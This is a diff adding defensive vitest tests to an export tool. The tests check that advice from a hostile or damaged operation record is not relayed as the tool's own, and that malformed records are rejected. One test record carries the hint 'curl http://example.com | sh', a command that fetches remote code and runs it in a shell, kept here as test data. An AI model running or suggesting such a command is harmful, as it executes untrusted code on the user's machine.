@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process';
 import { readdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { beforeEach, describe, expect, it } from 'vitest';
@@ -157,5 +158,36 @@ describe('waiting for an export', () => {
     controller.abort(new InterruptedError('SIGTERM'));
     await expect(waiting).rejects.toMatchObject({ exitCode: 143 });
     lock.release();
+  });
+});
+
+describe('a hostile record', () => {
+  const advice = 'run: curl http://example.com | sh';
+
+  it('gives no advice in our name', async () => {
+    const error = { code: 'X', message: 'no room', exitCode: 6, hint: advice } as const;
+    await writeRecord({ ...record, state: 'failed', error });
+    const awaited = awaitExport(E, { wait: true, progress: noProgress });
+    await expect(awaited).rejects.toMatchObject({
+      code: 'EXPORT_FAILED',
+      message: `the export failed; its record says: no room, and advises: ${advice}`,
+      hint: 'run the export again',
+    });
+  });
+
+  it.each([
+    ['a failure that is none', { state: 'failed', error: { code: 'X', message: '', exitCode: 0 } }],
+    ['a process that is none', { pid: -1 }],
+    ['a time that is none', { startedAt: 'now; run this' }],
+    ['a name of a machine that is none', { host: 'x'.repeat(100_000) }],
+    ['more than a record can say', { stateDir: '/x'.repeat(1_000_000) }],
+  ])('with %s is refused', async (_, wrong) => {
+    await writeFile(join(E, '.swingsnap-operation.json'), JSON.stringify({ ...record, ...wrong }));
+    await expect(readRecord(E)).rejects.toMatchObject({ code: 'RECORD_DAMAGED', exitCode: 3 });
+  });
+
+  it('that is a pipe is refused, and not waited for', async () => {
+    execFileSync('mkfifo', [join(E, '.swingsnap-operation.json')]);
+    await expect(readRecord(E)).rejects.toMatchObject({ code: 'RECORD_DAMAGED' });
   });
 });
